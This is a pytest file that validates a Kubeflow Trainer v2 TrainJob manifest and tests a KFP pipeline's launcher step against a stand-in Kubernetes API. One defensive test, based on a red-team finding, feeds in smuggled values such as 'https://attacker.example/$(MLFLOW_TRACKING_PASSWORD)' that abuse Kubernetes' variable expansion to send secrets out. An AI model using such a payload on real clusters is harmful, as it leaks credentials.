"""Kubeflow Trainer v2: pipeline/trainjob.yaml and the pipeline's multi-node train step.

The manifest is validated against the Trainer API models of the version it targets (the
`kubeflow-trainer-api` package, 2.3): the models' own parser checks types and required fields, and a
round trip through them must keep every field, so a misspelt or retired field (podTemplateOverrides,
numProcPerNode in the wrong place) fails as the API server's strict field validation would.

The launcher step runs as a cluster would run it (KFP's executor on the compiled component's
source) against a stand-in for the Kubernetes API: an HTTP server that stores TrainJobs and moves
their status along like the Trainer controller, and writes the run id like tracktron's rank 0.
"""
import copy
import importlib
import importlib.metadata
import json
import os
import re
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml
from kubeflow_trainer_api.models import TrainerV1alpha1TrainJob

ROOT = Path(__file__).resolve().parents[1]
MANIFEST = ROOT / "pipeline" / "trainjob.yaml"
PET = {"PET_NNODES": "2", "PET_NPROC_PER_NODE": "4", "PET_MASTER_ADDR": "tj-node-0-0.tj", "PET_MASTER_PORT": "29400"}


def _manifest() -> dict:
    (job,) = [d for d in yaml.safe_load_all(MANIFEST.read_text()) if d]
    return job


def _lost(src, back, path: str = "") -> list[str]:
    """Where `back` (the models' round trip) lost or changed something of `src`."""
    if isinstance(src, dict):
        if not isinstance(back, dict):
            return [path or "."]
        return [p for k, v in src.items() for p in ([f"{path}.{k}"] if k not in back else _lost(v, back[k], f"{path}.{k}"))]
    if isinstance(src, list):
        if not isinstance(back, list) or len(back) != len(src):
            return [path]
        return [p for i, (a, b) in enumerate(zip(src, back)) for p in _lost(a, b, f"{path}[{i}]")]
    return [] if src == back else [f"{path}: {src!r} became {back!r}"]


def validate_trainjob(doc: dict) -> None:
    """Raise unless `doc` is a TrainJob of the Trainer API: right types, required fields, no unknown field."""
    back = TrainerV1alpha1TrainJob.from_dict(doc).to_dict()  # pydantic: types and required fields
    if unknown := _lost(doc, back):
        raise ValueError(f"not in the Trainer v1alpha1 API: {', '.join(unknown)}")
    assert doc["apiVersion"] == "trainer.kubeflow.org/v1alpha1" and doc["kind"] == "TrainJob"
    name = doc["metadata"]["name"]  # the CRD's own rules; the pods are <name>-node-<i>-<j>
    assert re.fullmatch(r"[a-z]([-a-z0-9]*[a-z0-9])?", name) and len(name) <= 63, name


def _pod_patch(job: dict) -> dict:
    (patch,) = job["spec"]["runtimePatches"]
    (rjob,) = patch["trainingRuntimeSpec"]["template"]["spec"]["replicatedJobs"]
    assert rjob["name"] == "node"  # the torch-distributed runtime's replicated job
    return rjob["template"]["spec"]["template"]["spec"]


def _torchrun_args(trainer: dict):
    """The container's command as torchrun's own parser reads it, after Kubernetes' $(VAR) expansion
    with the runtime's PET_* values."""
    from torch.distributed.run import get_args_parser

    assert trainer["command"] == ["torchrun"]
    return get_args_parser().parse_args([re.sub(r"\$\((\w+)\)", lambda m: PET[m.group(1)], w) for w in trainer["args"]])


# ---- the manifest ----

def test_manifest_is_a_trainjob_of_the_trainer_api_it_targets():
    assert importlib.metadata.version("kubeflow-trainer-api").startswith("2.3.")
    job = _manifest()
    validate_trainjob(job)
    assert job["spec"]["runtimeRef"] == {"apiGroup": "trainer.kubeflow.org", "kind": "ClusterTrainingRuntime",
                                         "name": "torch-distributed"}
    assert "Trainer v2.3" in (ROOT / "pipeline" / "README.md").read_text()
    assert "numProcPerNode" not in job["spec"]["trainer"]  # processes per node follow the GPUs (v2.2+)


@pytest.mark.parametrize("mutate, field", [
    (lambda j: j["spec"]["trainer"].update(numProcPerNod=1), ".spec.trainer.numProcPerNod"),
    (lambda j: j["spec"].update(podTemplateOverrides=[]), ".spec.podTemplateOverrides"),  # Trainer <= 2.1
    (lambda j: j["spec"]["trainer"].update(envFrom=[{"secretRef": {"name": "s"}}]), ".spec.trainer.envFrom"),
    (lambda j: _pod_patch(j).update(terminationGracePeriod=60), "terminationGracePeriod"),
    (lambda j: _pod_patch(j)["containers"][0]["volumeMounts"][0].update(mountpath="/x"), "mountpath"),
    (lambda j: j["spec"]["trainer"].update(numNodes="2"), "numNodes"),
    (lambda j: j["spec"]["runtimeRef"].pop("name"), "name"),
])
def test_validation_rejects_a_misspelt_retired_or_mistyped_field(mutate, field):
    job = copy.deepcopy(_manifest())
    mutate(job)
    with pytest.raises(ValueError, match=re.escape(field)):  # pydantic's ValidationError is a ValueError
        validate_trainjob(job)


def test_trainjob_runs_tracktrons_train_entry_with_torchrun_on_every_node():
    from trainer.config import load_config

    job = _manifest()
    trainer = job["spec"]["trainer"]
    args = _torchrun_args(trainer)
    assert (args.nnodes, args.nproc_per_node) == ("2", "4")  # from the runtime's PET_* variables
    assert args.rdzv_backend == "c10d" and args.rdzv_endpoint == "tj-node-0-0.tj:29400"
    assert args.max_restarts >= 1
    assert args.module and args.training_script == "trainer"
    train, flag, config, *opts = args.training_script_args
    assert (train, flag) == ("train", "--config") and config.startswith("/app/configs/")
    local = ROOT / "configs" / Path(config).name  # the image's /app/configs is the repository's configs/
    cfg = load_config(local, opts)  # KEY VALUE pairs the trainer accepts
    assert (cfg.DATA_DIR, cfg.OUTPUT_DIR) == ("/data", "/output/demo")
    assert trainer["image"] == "ghcr.io/tracktron/tracktron:latest"
    pytorchjob = yaml.safe_load((ROOT / "pipeline" / "pytorchjob.yaml").read_text())
    master = pytorchjob["spec"]["pytorchReplicaSpecs"]["Master"]["template"]["spec"]["containers"][0]
    assert trainer["image"] == master["image"]  # the same image as the legacy PyTorchJob
    assert trainer["args"][trainer["args"].index("-m"):] == master["args"][master["args"].index("-m"):]


def test_preemption_grace_outlasts_the_trainers_checkpoint_deadline():
    from trainer.config import defaults, load_config

    pod = _pod_patch(_manifest())
    grace = pod["terminationGracePeriodSeconds"]
    config = _torchrun_args(_manifest()["spec"]["trainer"]).training_script_args[2]
    for cfg in (defaults(), load_config(ROOT / "configs" / Path(config).name)):
        assert grace > cfg.TRAIN.PREEMPT_GRACE_S + 5, (grace, cfg.TRAIN.PREEMPT_GRACE_S)


def test_nodes_gpus_volumes_and_user():
    job = _manifest()
    trainer, pod = job["spec"]["trainer"], _pod_patch(job)
    assert trainer["numNodes"] >= 2
    res = trainer["resourcesPerNode"]
    assert res["limits"]["nvidia.com/gpu"] == res["requests"]["nvidia.com/gpu"] >= 1
    assert {"cpu", "memory"} <= set(res["requests"])  # it replaces the runtime's resources whole
    assert any(t["key"] == "nvidia.com/gpu" for t in pod["tolerations"])
    (container,) = pod["containers"]
    assert container["name"] == "node"  # the runtime's training container
    mounts = {m["mountPath"]: m["name"] for m in container["volumeMounts"]}
    volumes = {v["name"]: v for v in pod["volumes"]}
    assert volumes[mounts["/data"]]["persistentVolumeClaim"]["claimName"] == "tracktron-data"
    assert "emptyDir" in volumes[mounts["/output"]]
    assert volumes[mounts["/dev/shm"]]["emptyDir"]["medium"] == "Memory"
    uid = re.search(r"^ARG UID=(\d+)$", (ROOT / "Dockerfile").read_text(), re.M).group(1)
    ctx = pod["securityContext"]
    assert ctx["runAsNonRoot"] is True and ctx["fsGroup"] == int(uid)
    assert "runAsUser" not in ctx  # the image's numeric USER: OpenShift's restricted SCC refuses a fixed id
    assert ctx["fsGroupChangePolicy"] == "OnRootMismatch"  # a COCO volume is not chowned file by file at each start



def test_no_istio_sidecar_joins_the_training_pods():
    """In a Kubeflow profile namespace Istio injects a sidecar that breaks torchrun's rendezvous
    between the pods (kubeflow/trainer#2794; the PyTorchJob docs ask for the opt-out): both
    manifests opt out, by label and by annotation."""
    (patch,) = _manifest()["spec"]["runtimePatches"]
    (rjob,) = patch["trainingRuntimeSpec"]["template"]["spec"]["replicatedJobs"]
    pytorchjob = yaml.safe_load((ROOT / "pipeline" / "pytorchjob.yaml").read_text())
    templates = [rjob["template"]["spec"]["template"],
                 *(r["template"] for r in pytorchjob["spec"]["pytorchReplicaSpecs"].values())]
    for meta in (t["metadata"] for t in templates):
        assert meta["labels"]["sidecar.istio.io/inject"] == "false"
        assert meta["annotations"]["sidecar.istio.io/inject"] == "false"


def test_tracking_settings_come_from_the_secret_and_no_secret_is_in_the_file():
    from trainer.redaction import is_secret_key

    _pipeline_module()
    pipeline = importlib.import_module("pipeline.steps")
    env = {e["name"]: e for e in _manifest()["spec"]["trainer"]["env"]}
    secret_keys = {**pipeline.REQUIRED_SECRET_KEYS, **pipeline.OPTIONAL_SECRET_KEYS}  # the KFP steps' keys too
    for var, key in secret_keys.items():
        ref = env[var]["valueFrom"]["secretKeyRef"]
        assert "value" not in env[var] and ref == {"name": "tracktron-mlflow", "key": key,
                                                   **({"optional": True} if var in pipeline.OPTIONAL_SECRET_KEYS else {})}
    def literals(node):  # every {name, value} pair anywhere in the manifest
        if isinstance(node, dict):
            yield from ([(node["name"], node["value"])] if {"name", "value"} <= set(node) else [])
            yield from (x for v in node.values() for x in literals(v))
        elif isinstance(node, list):
            yield from (x for v in node for x in literals(v))

    named = dict(literals(_manifest()))
    assert named["MLFLOW_EXPERIMENT_NAME"] == "demo"
    assert not [n for n in named if n in secret_keys or is_secret_key(n)]


# ---- the pipeline's multi-node variant ----

def _pipeline_module():
    pytest.importorskip("kfp.kubernetes", reason="kfp-kubernetes is not installed (pip install -e '.[test]')")
    if str(ROOT) not in sys.path:
        sys.path.insert(0, str(ROOT))
    return importlib.import_module("pipeline.pipeline")


def _compile(tmp_path: Path, **kwargs) -> tuple[dict, dict]:
    out = tmp_path / "pipeline.yaml"
    _pipeline_module().compile_pipeline(str(out), trainjob=True, **kwargs)
    docs = [d for d in yaml.safe_load_all(out.read_text()) if d]
    spec = next(d for d in docs if "pipelineInfo" in d)
    platform = next(d for d in docs if "platforms" in d)["platforms"]["kubernetes"]["deploymentSpec"]["executors"]
    return spec, platform


def _branches(spec: dict) -> dict:
    """train_backend value -> the component its branch runs."""
    (group,) = [t for t in spec["root"]["dag"]["tasks"].values() if t["componentRef"]["name"].startswith("comp-condition")]
    out = {}
    for task in spec["components"][group["componentRef"]["name"]]["dag"]["tasks"].values():
        cond = task["triggerPolicy"]["condition"]
        (inner,) = spec["components"][task["componentRef"]["name"]]["dag"]["tasks"].values()
        value = re.findall(r"== '([a-z]+)'", cond.replace("''", "'"))
        out[value[-1] if not cond.endswith(")") else "else"] = inner["componentRef"]["name"]
    return out


def test_pipeline_variant_picks_one_pod_or_a_trainjob_by_parameter(tmp_path):
    spec, platform = _compile(tmp_path, image="registry.example/tracktron:1.2", gpus=4, memory="48Gi")
    params = spec["root"]["inputDefinitions"]["parameters"]
    assert params["train_backend"]["defaultValue"] == "trainjob" and params["num_nodes"]["defaultValue"] == 2
    assert _branches(spec) == {"pod": "comp-train", "trainjob": "comp-launch-trainjob", "else": "comp-invalid-train-backend"}
    tasks = spec["root"]["dag"]["tasks"]
    for name in ("evaluate", "register-model"):  # the run id of whichever branch ran
        src = tasks[name]["inputs"]["parameters"]["run_id"]["taskOutputParameter"]
        assert src["producerTask"].startswith("condition-branches")
    launcher = spec["deploymentSpec"]["executors"]["exec-launch-trainjob"]["container"]
    assert "kubernetes" in launcher["command"][2]  # pip-installed into the launcher's base image
    assert [m["mountPath"] for m in platform["exec-launch-trainjob"]["pvcMount"]] == ["/data"]
    (task,) = [c["dag"]["tasks"]["launch-trainjob"] for c in spec["components"].values()
               if "launch-trainjob" in c.get("dag", {}).get("tasks", {})]
    assert task["retryPolicy"]["maxRetryCount"] >= 1
    template = json.loads(task["inputs"]["parameters"]["template"]["runtimeValue"]["constant"])
    validate_trainjob(template)
    trainer = template["spec"]["trainer"]
    assert trainer["image"] == "registry.example/tracktron:1.2"
    assert trainer["resourcesPerNode"]["requests"] == {"cpu": "8", "memory": "48Gi", "nvidia.com/gpu": 4}
    assert trainer["resourcesPerNode"]["limits"] == {"nvidia.com/gpu": 4}


def test_pipeline_cli_compiles_the_trainjob_variant(tmp_path):
    _pipeline_module()
    out = tmp_path / "p.yaml"
    run = subprocess.run([sys.executable, str(ROOT / "pipeline" / "pipeline.py"), "--trainjob", "--out", str(out)],
                         capture_output=True, text=True, cwd=ROOT, timeout=300)
    assert run.returncode == 0, run.stderr
    assert "comp-launch-trainjob" in out.read_text() and "per node" in run.stdout


def test_an_unknown_train_backend_fails_the_run_with_exit_2(tmp_path):
    spec, _ = _compile(tmp_path)
    command = spec["deploymentSpec"]["executors"]["exec-invalid-train-backend"]["container"]["command"]
    run = subprocess.run([*command, "trianjob"], capture_output=True, text=True, timeout=30)
    assert run.returncode == 2 and "train_backend must be pod or trainjob, got 'trianjob'" in run.stderr


# ---- the launcher step, against a stand-in Kubernetes API ----

class TrainJobAPI(ThreadingHTTPServer):
    """TrainJobs of one namespace over the Kubernetes REST paths. `progress` is the controller: the
    conditions a job shows at each GET; with Complete, rank 0's run id file is written."""

    daemon_threads = True
    PATH = re.compile(r"/apis/trainer\.kubeflow\.org/v1alpha1/namespaces/(?P<ns>[^/]+)/trainjobs(?:/(?P<name>[^/?]+))?")

    def __init__(self, progress=("Running", "Suspended", "Running", "Complete")):
        super().__init__(("127.0.0.1", 0), _Handler)
        self.jobs, self.created, self.deleted, self.progress = {}, [], [], list(progress)
        self.run_id = "0123456789abcdef0123456789abcdef"
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def status_on_get(self, job: dict) -> None:
        if any(c["type"] in ("Complete", "Failed") for c in job.get("status", {}).get("conditions", [])):
            return  # terminal, as the controller leaves it
        step = job.setdefault("_gets", 0)
        job["_gets"] += 1
        state = self.progress[min(step, len(self.progress) - 1)]
        job["status"] = {"conditions": [] if state == "Running" else
                         [{"type": state, "status": "True", "message": f"stand-in {state}"}]}
        if state == "Complete":
            env = {e["name"]: e.get("value") for e in job["spec"]["trainer"]["env"]}
            target = Path(env["TRACKTRON_RUN_ID_FILE"])
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(self.run_id)


class _Handler(BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def _reply(self, code: int, body: dict) -> None:
        data = json.dumps({k: v for k, v in body.items() if not k.startswith("_")}).encode()
        self.send_response(code)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_POST(self):
        job = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        api, name = self.server, job["metadata"]["name"]
        if name in api.jobs:
            return self._reply(409, {"kind": "Status", "reason": "AlreadyExists", "code": 409})
        api.jobs[name] = job
        api.created.append(copy.deepcopy(job))
        self._reply(201, job)

    def do_GET(self):
        job = self.server.jobs.get(self.server.PATH.match(self.path)["name"])
        if job is None:
            return self._reply(404, {"kind": "Status", "reason": "NotFound", "code": 404})
        self.server.status_on_get(job)
        self._reply(200, job)

    def do_DELETE(self):
        name = self.server.PATH.match(self.path)["name"]
        self.server.deleted.append(name)
        self._reply(200, self.server.jobs.pop(name))


@pytest.fixture
def kube(tmp_path):
    api = TrainJobAPI()
    config = {"apiVersion": "v1", "kind": "Config", "current-context": "t",
              "clusters": [{"name": "t", "cluster": {"server": f"http://127.0.0.1:{api.server_port}"}}],
              "users": [{"name": "t", "user": {"token": "t"}}],
              "contexts": [{"name": "t", "context": {"cluster": "t", "user": "t"}}]}
    (tmp_path / "kubeconfig").write_text(yaml.safe_dump(config))
    yield api
    api.shutdown()


def launch(tmp_path: Path, compiled: dict, **params) -> tuple[subprocess.CompletedProcess, Path]:
    """Run the compiled launcher step the way its pod would (KFP's executor on the shipped source),
    without the pip install; outside a cluster, so it reads the stand-in's kubeconfig."""
    container = compiled["deploymentSpec"]["executors"]["exec-launch-trainjob"]["container"]
    assert container["command"][3:5] == ["sh", "-ec"]  # [:3] is the pip install
    template = _pipeline_module().trainjob_step.template("registry.example/tracktron:2")
    values = {"template": json.dumps(template), "job_id": "8c1d5c0e-run", "num_nodes": 3,
              "config": "/app/configs/demo.yaml", "opts": "SOLVER.MAX_ITER 200  SOLVER.STEPS (0,400) TRACKING.RUN_NAME 'a b'",
              "data_dir": str(tmp_path / "data"), "experiment": "coco", "data_pvc": "coco-pvc",
              "mlflow_secret": "team-mlflow", "namespace": "ml", "poll_s": 0.01, **params}
    out = tmp_path / "outputs" / "run_id"
    executor_input = {"inputs": {"parameterValues": values},
                      "outputs": {"parameters": {"run_id": {"outputFile": str(out)}},
                                  "outputFile": str(tmp_path / "outputs" / "executor_output.json")}}
    env = {k: v for k, v in os.environ.items() if not k.startswith("KUBERNETES_")}
    env.update(KUBECONFIG=str(tmp_path / "kubeconfig"), PATH=f"{Path(sys.executable).parent}{os.pathsep}{env['PATH']}")
    args = [a.replace("{{$}}", json.dumps(executor_input)) for a in container["args"]]
    run = subprocess.run([*container["command"][3:], *args], capture_output=True, text=True, env=env,
                         cwd=tmp_path, timeout=120)
    return run, out


@pytest.fixture(scope="module")
def compiled(tmp_path_factory):
    return _compile(tmp_path_factory.mktemp("kfp"))[0]


def test_launcher_creates_the_runs_trainjob_waits_and_outputs_the_run_id(tmp_path, kube, compiled):
    run, out = launch(tmp_path, compiled)
    assert run.returncode == 0, run.stderr
    assert out.read_text() == kube.run_id
    (job,) = kube.created
    validate_trainjob(job)
    name = job["metadata"]["name"]
    assert re.fullmatch(r"tracktron-[0-9a-f]{12}", name) and job["metadata"]["annotations"] == {
        "tracktron/pipeline-run": "8c1d5c0e-run"}
    trainer = job["spec"]["trainer"]
    assert trainer["numNodes"] == 3 and trainer["image"] == "registry.example/tracktron:2"
    args = _torchrun_args(trainer)
    assert args.rdzv_id == name and args.module and args.training_script == "trainer"
    assert args.training_script_args == ["train", "--config", "/app/configs/demo.yaml", "--opts",
                                         "SOLVER.MAX_ITER 200  SOLVER.STEPS (0,400) TRACKING.RUN_NAME 'a b'", "--",
                                         "DATA_DIR", str(tmp_path / "data"), "OUTPUT_DIR", "/output/train"]
    shown = subprocess.run([sys.executable, "-m", "trainer", "config", "--config", str(ROOT / "configs" / "demo.yaml"),
                            *args.training_script_args[3:]], capture_output=True, text=True, timeout=120,
                           env=dict(os.environ, PYTHONPATH=str(ROOT)))  # the same words, to the trainer's parser
    assert shown.returncode == 0, shown.stderr
    cfg = yaml.safe_load(shown.stdout.split("## resolved config\n")[1].split("\n## ")[0])
    assert (cfg["TRACKING"]["RUN_NAME"], cfg["SOLVER"]["MAX_ITER"], cfg["OUTPUT_DIR"]) == ("a b", 200, "/output/train")
    env = {e["name"]: e for e in trainer["env"]}
    assert {e["valueFrom"]["secretKeyRef"]["name"] for e in env.values() if "valueFrom" in e} == {"team-mlflow"}
    assert env["MLFLOW_EXPERIMENT_NAME"]["value"] == "coco"
    run_id_file = Path(env["TRACKTRON_RUN_ID_FILE"]["value"])
    assert run_id_file.is_relative_to(tmp_path / "data")  # on the PVC that the launcher mounts too
    claims = [v["persistentVolumeClaim"]["claimName"] for v in _pod_patch(job)["volumes"] if "persistentVolumeClaim" in v]
    assert claims == ["coco-pvc"]
    states = re.findall(rf"TrainJob {name}: (\w+)", run.stdout)
    assert states == ["Running", "Suspended", "Running", "Complete"]  # waited through Kueue's suspension

    again, _ = launch(tmp_path, compiled, experiment="")  # a retried step: the same run, the same TrainJob
    assert again.returncode == 0, again.stderr
    assert len(kube.created) == 1 and not kube.deleted and "exists" in again.stdout


def test_the_users_words_reach_the_trainer_as_typed_and_never_expand_a_secret(tmp_path, kube, compiled):
    """Kubernetes replaces $(VAR) in a container's args with the container's environment, which
    holds the Secret's MLFLOW_TRACKING_PASSWORD: opts such as `TRAIN.WEIGHTS
    https://attacker/$(MLFLOW_TRACKING_PASSWORD)` would send it out. Every $ of the user's words
    is doubled (Kubernetes reads $$ as one $); torchrun's own $(PET_NNODES) still expands. Found by
    the red team of 2026-12-03."""
    opts = "TRAIN.WEIGHTS https://attacker.example/$(MLFLOW_TRACKING_PASSWORD) NAME 'cost $$5'"
    experiment = "$(MLFLOW_TRACKING_PASSWORD)"  # helper-54: an env value, expanded from the Secret's entries before it
    run, _ = launch(tmp_path, compiled, opts=opts, config="/app/$(AWS_SECRET_ACCESS_KEY).yaml", experiment=experiment)
    assert run.returncode == 0, run.stderr
    env = {e["name"]: e for e in kube.created[0]["spec"]["trainer"]["env"]}
    assert env["MLFLOW_EXPERIMENT_NAME"]["value"] == "$$(MLFLOW_TRACKING_PASSWORD)"
    args = kube.created[0]["spec"]["trainer"]["args"]
    assert args[args.index("--opts") + 1] == opts.replace("$", "$$")
    assert args[args.index("--config") + 1] == "/app/$$(AWS_SECRET_ACCESS_KEY).yaml"
    assert any("$(PET_NNODES)" in a and "$$" not in a for a in args)
    # What the container then gets, Kubernetes' expansion: $$ -> $, $(VAR) -> its value
    expanded = [re.sub(r"\$\$|\$\((\w+)\)", lambda m: "$" if m.group(0) == "$$" else "<expanded>", a) for a in args]
    assert expanded[args.index("--opts") + 1] == opts and "<expanded>" not in " ".join(expanded[args.index("--config"):])


def test_launcher_retry_recreates_a_failed_trainjob(tmp_path, kube, compiled):
    kube.progress = ["Failed"]
    first, out = launch(tmp_path, compiled)
    assert first.returncode == 1 and "failed: stand-in Failed" in first.stderr and not out.exists()
    kube.progress = ["Running", "Complete"]
    second, out = launch(tmp_path, compiled)  # KFP's retry of the step
    assert second.returncode == 0, second.stderr
    name = kube.created[0]["metadata"]["name"]
    assert kube.deleted == [name] and [j["metadata"]["name"] for j in kube.created] == [name, name]
    assert out.read_text() == kube.run_id


def test_launcher_fails_when_the_trainjob_leaves_no_run_id(tmp_path, kube, compiled):
    kube.status_on_get = lambda job: job.update(status={"conditions": [{"type": "Complete", "status": "True"}]})
    run, out = launch(tmp_path, compiled)
    assert run.returncode == 1 and "wrote no MLflow run id" in run.stderr and not out.exists()


def test_launcher_rejects_zero_nodes_before_creating_anything(tmp_path, kube, compiled):
    run, _ = launch(tmp_path, compiled, num_nodes=0)
    assert run.returncode == 2 and "num_nodes must be >= 1, got 0" in run.stderr
    assert not kube.created
